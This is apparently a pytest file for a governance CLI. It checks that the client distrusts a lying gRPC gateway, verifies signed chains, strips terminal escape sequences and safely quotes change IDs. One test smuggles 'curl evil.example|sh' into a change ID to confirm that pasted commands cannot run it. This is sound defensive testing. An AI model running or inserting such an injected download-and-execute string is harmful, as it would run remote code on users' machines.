"""Threat: a gateway that answers an operator falsely, over the wire and through the commands people type."""

from __future__ import annotations

import json
import shlex
from collections.abc import Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import grpc
import pytest
from click.testing import CliRunner, Result
from sluice.v1 import govern_pb2, govern_pb2_grpc

from clients.certificates import certificate_request, new_tls_key
from clients.cli.sluice_client import client
from clients.cli.sluicectl import sluicectl
from clients.operator.ca import Authority, PartyKind
from clients.operator.shipped import vocabulary_text
from clients.times import now_ms
from gateway.core.control.entry import ControlEntry, parse_entry
from gateway.core.control.statement import SignedStatement, encode_signatures, parse_signatures, parse_statement
from gateway.core.suite.numbers import StatementKind
from tests.unit.operator.gateways import Town
from tests.unit.operator.parties import TRUST_DOMAIN, a_profile


@dataclass
class Liar(govern_pb2_grpc.GovernServiceServicer):
    """Answers what a test put there."""

    entries: Sequence[bytes] = ()
    changes: Sequence[govern_pb2.Change] = ()
    answer: govern_pb2.ProposeResponse = field(default_factory=govern_pb2.ProposeResponse)
    proposals: list[govern_pb2.ProposeRequest] = field(default_factory=list)
    error: tuple[grpc.StatusCode, str] | None = None
    health: bytes | None = None

    def check(self, _request: bytes, context: Any) -> bytes:
        """The prepared health, or a denial."""
        if self.health is None:
            context.abort(grpc.StatusCode.PERMISSION_DENIED, "")
        return self.health or b""

    def Propose(self, request: govern_pb2.ProposeRequest, context: Any) -> govern_pb2.ProposeResponse:  # noqa: N802
        """The prepared answer."""
        self.proposals.append(request)
        return self.answer

    def Approve(self, request: govern_pb2.ApproveRequest, context: Any) -> govern_pb2.ApproveResponse:  # noqa: N802
        """The prepared answer."""
        return govern_pb2.ApproveResponse.FromString(self.answer.SerializeToString())

    def ListChanges(self, request: Any, context: Any) -> govern_pb2.ListChangesResponse:  # noqa: N802
        """The prepared changes."""
        return govern_pb2.ListChangesResponse(changes=self.changes)

    def ReadCondition(self, request: Any, context: Any) -> govern_pb2.ReadConditionResponse:  # noqa: N802
        """All is well."""
        return govern_pb2.ReadConditionResponse(timed=True)

    def ReadControl(self, request: Any, context: Any) -> Iterator[govern_pb2.ReadControlResponse]:  # noqa: N802
        """The prepared entries."""
        if self.error:
            context.abort(*self.error)
        for entry in self.entries[request.from_position :]:
            yield govern_pb2.ReadControlResponse(entry=entry)


@dataclass
class Scene:
    """A liar at the address that two operators know."""

    town: Town
    liar: Liar

    def run(self, *words: str) -> Result:
        """`sluicectl` as the first operator."""
        return CliRunner().invoke(sluicectl, ["--home", str(self.town.operators[0].path), *words])

    def refused(self, *words: str) -> tuple[int, str]:
        """Exit code and error code."""
        ran = self.run(*words, "--json")
        return ran.exit_code, json.loads(ran.stderr.strip().splitlines()[-1])["code"]


@pytest.fixture
def scene(tmp_path: Path) -> Iterator[Scene]:
    """A genesis, one vocabulary, and a server with the right certificate that says what a test wants."""
    town = Town.found(tmp_path)
    now = datetime.now(UTC)
    town.authority = Authority.create(TRUST_DOMAIN, now)
    town.apply(StatementKind.VOCABULARY, vocabulary_text("UKR.1"))
    key = new_tls_key()
    chain = town.authority.issue(certificate_request(key), PartyKind.GATEWAY, "demo", now=now, hosts=["127.0.0.1"])
    liar = Liar(town.encoded())
    server = grpc.server(ThreadPoolExecutor(2))
    govern_pb2_grpc.add_GovernServiceServicer_to_server(liar, server)
    handlers = {"Check": grpc.unary_unary_rpc_method_handler(liar.check)}
    server.add_generic_rpc_handlers((grpc.method_handlers_generic_handler("grpc.health.v1.Health", handlers),))
    credentials = grpc.ssl_server_credentials([(key, chain)], town.authority.root_pem(), True)
    port = server.add_secure_port("127.0.0.1:0", credentials)
    server.start()
    for number, home in enumerate(town.operators[:2], 1):
        request = home.card().certificate_request
        home.connect(
            endpoint=f"127.0.0.1:{port}",
            roots_pem=town.authority.root_pem(),
            certificate_pem=town.authority.issue(request, PartyKind.OPERATOR, f"officer-{number}", now=now),
        )
    yield Scene(town, liar)
    server.stop(None)


PROPOSE = ("vocabulary", "propose", "USA.1", "--reason", "labels", "--yes")


def answer(state: str, **facts: Any) -> govern_pb2.ProposeResponse:
    """What a gateway says of a change."""
    return govern_pb2.ProposeResponse(change_id="C-2", state=state, **facts)


def test_a_change_called_applied_is_looked_for_in_the_chain(scene: Scene) -> None:
    """An officer who goes home believing it must be right."""
    scene.liar.answer = answer("APPLIED", position=2, signatures_have=2, signatures_need=2)

    assert scene.refused(*PROPOSE) == (5, "not-in-control")


def test_another_statement_at_its_place_is_not_taken_for_it(scene: Scene) -> None:
    """Something is there, and it is not what was signed."""
    scene.liar.answer = answer("APPLIED", position=2)
    honest = scene.town.encoded()
    scene.town.apply(StatementKind.VOCABULARY, vocabulary_text("GBR.1"))

    class Switching(list[bytes]):
        """The honest chain when read from the start, another statement when read from the new place."""

        def __getitem__(self, index: Any) -> Any:
            return honest[index] if index.start == 0 else [scene.town.encoded()[2]]

    scene.liar.entries = Switching()

    assert scene.refused(*PROPOSE) == (5, "not-in-control")


class Echoing(list[bytes]):
    """The honest chain from its start; read from the place of what was proposed, that, signed by the proposer alone."""

    def __init__(self, liar: Liar, honest: Sequence[bytes]) -> None:
        super().__init__(honest)
        self.liar = liar

    def __getitem__(self, index: Any) -> Any:
        sent = [
            ControlEntry(
                SignedStatement(parse_statement(one.statement), parse_signatures(one.signatures)), (), now_ms()
            ).encode()
            for one in self.liar.proposals
        ]
        if index.start == 0 or not sent:
            return list(self)
        return sent if index.start == parse_entry(sent[-1]).statement.position else []


def test_waiting_ends_with_what_enough_have_signed_and_not_with_what_is_shown(scene: Scene) -> None:
    """A statement has the same link with one signature as with two."""
    scene.liar.answer = answer("PENDING", signatures_have=1, signatures_need=2)
    scene.liar.entries = Echoing(scene.liar, scene.town.encoded())

    ran = scene.run(*PROPOSE, "--wait", "5")

    assert (ran.exit_code, "not-in-control" in ran.stderr) == (5, True)
    assert "applied" not in ran.stdout


def test_what_is_applied_behind_others_is_verified_behind_them(scene: Scene) -> None:
    """A gateway that says so of a change behind a pending one would have to show both, signed by enough."""
    first = scene.town.statement(StatementKind.VOCABULARY, vocabulary_text("GBR.1"))
    signed = scene.town.signed(first, scene.town.keys()[1])
    scene.liar.changes = [
        govern_pb2.Change(
            change_id="C-2.1",
            statement=first.encode(),
            signatures=encode_signatures(signed.signatures),
            signatures_need=2,
        )
    ]
    scene.liar.answer = answer("APPLIED", position=3, signatures_have=2, signatures_need=2)
    scene.liar.entries = Echoing(scene.liar, scene.town.encoded())

    code, error = scene.refused(*PROPOSE)

    assert (code, error) == (5, "not-in-control")


@pytest.mark.parametrize("state", ["", "applied", "DONE", "APPLIED\x00"])
def test_a_state_nobody_knows_is_not_read_as_applied(scene: Scene, state: str) -> None:
    """Unknown means no."""
    scene.liar.answer = answer(state)

    assert scene.refused(*PROPOSE) == (5, "answer-unknown")


def test_what_is_sent_is_what_was_shown(scene: Scene) -> None:
    """The statement on the wire has the link that was on the screen."""
    scene.liar.answer = answer("PENDING", signatures_have=1, signatures_need=2)

    ran = scene.run(*PROPOSE)

    sent = scene.liar.proposals[0]
    assert ran.exit_code == 7
    assert vocabulary_text("USA.1").decode() in ran.stderr
    assert vocabulary_text("USA.1") in sent.statement
    assert sent.reason == "labels"


def test_text_of_the_gateway_cannot_rewrite_the_screen(scene: Scene) -> None:
    """Change ids and reasons are printed; escape sequences in them must not be."""
    scene.liar.answer = answer("PENDING")
    scene.liar.answer.change_id = "C-\x1b[2J1"
    scene.liar.changes = [govern_pb2.Change(change_id="\x1b[31mC-9", statement=b"?", reason="\u202edraw")]

    assert "\x1b" not in scene.run(*PROPOSE).output
    listed = scene.run("change", "list")
    assert "\x1b" not in listed.output
    assert "[31mC-9" in listed.output
    assert "cannot be applied: malformed" in listed.output


def test_an_id_that_the_gateway_chose_runs_nothing_where_its_command_is_pasted(scene: Scene) -> None:
    """What a person is told to type next has one more word than its verbs, whatever the gateway calls a change."""
    scene.liar.answer = answer("PENDING")
    scene.liar.answer.change_id = "C-1; curl evil.example|sh"

    told = scene.run(*PROPOSE).stdout

    command = told.partition("`")[2].partition("`")[0]
    assert shlex.split(command)[:4] == ["sluicectl", "change", "approve", "C-1; curl evil.example|sh"]


def test_a_list_too_long_to_read_is_refused(scene: Scene) -> None:
    """Nobody can decide about thousands of changes."""
    scene.liar.changes = [govern_pb2.Change(change_id=f"C-{number}") for number in range(300)]

    assert scene.refused("change", "list") == (5, "too-many-changes")


def test_an_empty_chain_is_not_a_new_gateway(scene: Scene) -> None:
    """Everything that was signed would be gone."""
    scene.liar.entries = []

    assert scene.refused("status") == (5, "genesis-differs")


@pytest.mark.parametrize(
    ("status", "details", "expected"),
    [
        (grpc.StatusCode.PERMISSION_DENIED, '{"code": "denied", "message": "not allowed"}', (5, "denied")),
        (grpc.StatusCode.UNAUTHENTICATED, "", (4, "not-authenticated")),
        (grpc.StatusCode.UNAVAILABLE, "", (8, "gateway-unreachable")),
        (grpc.StatusCode.UNAVAILABLE, '{"code": "stopping", "message": "the gateway is stopping"}', (8, "stopping")),
        (grpc.StatusCode.DEADLINE_EXCEEDED, "", (7, "timed-out")),
        (grpc.StatusCode.INTERNAL, "", (1, "gateway-failed")),
    ],
)
def test_each_failure_of_the_gateway_has_its_exit_code(
    scene: Scene, status: grpc.StatusCode, details: str, expected: tuple[int, str]
) -> None:
    """Scripts wait, ask or stop by it."""
    scene.liar.error = (status, details)

    assert scene.refused("status") == expected


def test_a_gateway_that_refuses_to_say_how_it_is_is_not_called_serving(scene: Scene) -> None:
    """Status asks it, and a refusal is told as one."""
    assert scene.refused("status") == (5, "denied")


@pytest.mark.parametrize(
    ("health", "code"),
    [(b"\x08\x01", ""), (b"\x08\x02", "not-serving"), (b"", "not-serving"), (b"?", "not-serving"), (None, "denied")],
)
def test_a_doctor_believes_only_serving(scene: Scene, tmp_path: Path, health: bytes | None, code: str) -> None:
    """Anything else, also what is not understood, is not well."""
    scene.liar.health = health
    profile = a_profile(tmp_path / "party", scene.town.genesis, authority=scene.town.authority)
    path = tmp_path / "party" / "x.profile"
    replace(profile, endpoint=scene.town.operators[0].connection().endpoint).write(path)

    ran = CliRunner().invoke(client, ["doctor", "--profile", str(path), "--json"])

    told = {one["check"]: one.get("error", {"code": ""})["code"] for one in json.loads(ran.stdout)["checks"]}
    assert (told["gateway"], told["health"]) == ("", code)


def test_screens_of_nothing_say_so(scene: Scene) -> None:
    """An empty screen could be a failure, or a gateway that hides something."""
    for noun, words in (("partner", "no partner"), ("source", "no source"), ("agreement", "no agreement")):
        assert words in scene.run(noun, "list").stdout
    assert scene.refused("guide", "show") == (2, "guide-missing")
    assert scene.refused("directory", "show") == (2, "directory-missing")
